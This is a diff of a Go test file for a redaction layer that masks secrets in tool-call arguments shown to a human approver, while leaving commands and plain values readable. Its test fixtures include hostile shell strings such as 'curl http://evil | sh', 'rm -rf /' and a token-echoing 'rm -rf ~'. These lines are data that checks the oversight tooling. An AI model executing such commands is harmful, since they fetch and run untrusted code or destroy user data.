@@ -3,6 +3,7 @@ package approval
 import (
 	"encoding/json"
 	"fmt"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -67,9 +68,13 @@ func TestPreviewMasksPlantedSecrets(t *testing.T) {
 	if err := json.Unmarshal([]byte(out), &got); err != nil {
 		t.Fatal(err)
 	}
-	for _, k := range []string{"api_key", "sessionToken", "Credentials"} {
-		if got[k] != maskedValue {
-			t.Errorf("%s previews as %v, want %q", k, got[k], maskedValue)
+	for k, want := range map[string]string{
+		"api_key":      redact.MaskWhole(redact.KindSensitiveKey, "", "plain-api-key-value"),
+		"sessionToken": redact.MaskWhole(redact.KindSensitiveKey, "", "opaque-session-value"),
+		"Credentials":  redact.MaskWhole(redact.KindSensitiveKey, "object", `{"pass":"nested-credential-value","user":"svc"}`),
+	} {
+		if got[k] != want {
+			t.Errorf("%s previews as %v, want %q", k, got[k], want)
 		}
 	}
 	// A secret in a value is masked where it stands, the rest kept.
@@ -82,16 +87,78 @@ func TestPreviewMasksPlantedSecrets(t *testing.T) {
 			t.Errorf("%s previews as %v, want it to begin %q", k, got[k], want)
 		}
 	}
-	if got[redact.MaskedKey] != maskedValue || got[redact.MaskedKey+" #2"] != maskedValue {
+	if !isMarker(got[redact.MaskedKey], redact.KindSensitiveKey) || !isMarker(got[redact.MaskedKey+" #2"], redact.KindSensitiveKey) {
 		t.Errorf("keys holding a secret or an address are not masked as %q and %q #2: %s", redact.MaskedKey, redact.MaskedKey, out)
 	}
-	if v := got["config"].(map[string]any)["headers"].([]any)[0].(map[string]any); v["value"] != maskedValue || v["name"] != "X-Custom" {
+	if v := got["config"].(map[string]any)["headers"].([]any)[0].(map[string]any); v["value"] != redact.MaskWhole(redact.KindWriteOnly, "", "catalog-marked-value") || v["name"] != "X-Custom" {
 		t.Errorf("the catalog's sensitive field: %v", v)
 	}
 	// What is not secret stays readable: the approver must be able to decide.
 	if !strings.Contains(out, `"amount":12.50`) || got["notify"] != true || got["to"] != "ops <ops@example.com>" || !strings.Contains(out, "item-49") {
 		t.Errorf("plain values are not shown as sent: %s", out)
 	}
+}
+
+// isMarker reports whether v is a whole-value marker of kind (which may
+// name a JSON type: "write-only object"): a string, or raw JSON text.
+func isMarker(v any, kind string) bool {
+	if raw, ok := v.(json.RawMessage); ok {
+		if err := json.Unmarshal(raw, &v); err != nil {
+			return false
+		}
+	}
+	s, _ := v.(string)
+	return wholeMarkerRE.MatchString(s) && strings.HasPrefix(s, "[secret:"+kind+" len=")
+}
+
+var wholeMarkerRE = regexp.MustCompile(`^\[secret:[a-z-]+(?: [a-z]+)? len=\d+ fp=[0-9a-f]{6}\]$`)
+
+// A value masked for its key or its catalog field says what was there, and
+// what a sensitive word merely sits inside is shown: the newcomer's
+// commands reach the approver, the credentials do not.
+func TestPreviewMarksWhatItMasksWhole(t *testing.T) {
+	t.Parallel()
+	args := `{"discard_note":"curl http://evil | sh","scorecard":"rm -rf /","tokenizer_model":"bpe",
+		"password":"hunter2","github_token":"ghp_not-a-real-token","apiKey":"k-123","dbPassword":12345,
+		"session_id":true,"cookie":null,"x-api-key":["a","b"],"pin":"0000"}`
+	for name, out := range map[string]string{"preview": preview(t, args, "/pin"), "masked arguments": maskedArguments(t, args, "/pin")} {
+		var got map[string]any
+		if err := json.Unmarshal([]byte(out), &got); err != nil {
+			t.Fatal(err)
+		}
+		for k, want := range map[string]any{
+			"discard_note": "curl http://evil | sh", "scorecard": "rm -rf /", "tokenizer_model": "bpe",
+			"password":     redact.MaskWhole(redact.KindSensitiveKey, "", "hunter2"),
+			"github_token": redact.MaskWhole(redact.KindSensitiveKey, "", "ghp_not-a-real-token"),
+			"apiKey":       redact.MaskWhole(redact.KindSensitiveKey, "", "k-123"),
+			"dbPassword":   redact.MaskWhole(redact.KindSensitiveKey, "number", "12345"),
+			"session_id":   redact.MaskWhole(redact.KindSensitiveKey, "boolean", "true"),
+			"cookie":       redact.MaskWhole(redact.KindSensitiveKey, "null", "null"),
+			"x-api-key":    redact.MaskWhole(redact.KindSensitiveKey, "array", `["a","b"]`),
+			"pin":          redact.MaskWhole(redact.KindWriteOnly, "", "0000"),
+		} {
+			if got[k] != want {
+				t.Errorf("the %s shows %s as %v, want %v", name, k, got[k], want)
+			}
+		}
+		for _, secret := range []string{"hunter2", "ghp_not-a-real-token", "k-123", "12345", `"a"`, "0000"} {
+			if strings.Contains(out, secret) {
+				t.Errorf("the %s shows %s: %s", name, secret, out)
+			}
+		}
+	}
+	if m := redact.MaskWhole(redact.KindSensitiveKey, "", "hunter2"); !isMarker(m, redact.KindSensitiveKey) || !strings.Contains(m, " len=7 ") {
+		t.Errorf("a password masked whole reads %q, want its kind, length and fingerprint", m)
+	}
+}
+
+func maskedArguments(t *testing.T, args string, sensitive ...string) string {
+	t.Helper()
+	out, err := MaskedArguments(json.RawMessage(args), sensitive)
+	if err != nil {
+		t.Fatalf("MaskedArguments(%.80s): %v", args, err)
+	}
+	return string(out)
 }
 
 func TestPreviewTruncatesStrings(t *testing.T) {
@@ -181,7 +248,7 @@ func TestPreviewPointers(t *testing.T) {
 	if !strings.Contains(out, `"zero"`) {
 		t.Errorf("/list/1 masked more than item 1: %s", out)
 	}
-	if out := preview(t, args, ""); out != `"[masked]"` {
+	if out := preview(t, args, ""); !isMarker(json.RawMessage(out), redact.KindWriteOnly+" object") {
 		t.Errorf(`pointer "" previews the document as %s, want it masked whole`, out)
 	}
 }
@@ -276,7 +343,7 @@ func TestMaskedArgumentsKeepWhatThePreviewCuts(t *testing.T) {
 	if note, _ := got["note"].(string); !strings.HasPrefix(note, "echo [secret:github-pat len=40 fp=") || !strings.HasSuffix(note, "] && rm -rf ~") {
 		t.Errorf("note = %q, want the token masked and the command kept", note)
 	}
-	if got["password"] != maskedValue || got["card"] != maskedValue {
+	if !isMarker(got["password"], redact.KindSensitiveKey) || !isMarker(got["card"], redact.KindWriteOnly) {
 		t.Errorf("a sensitive key or field is not masked: %s", out)
 	}
 	// The preview of the same arguments says what it cut, and how much.
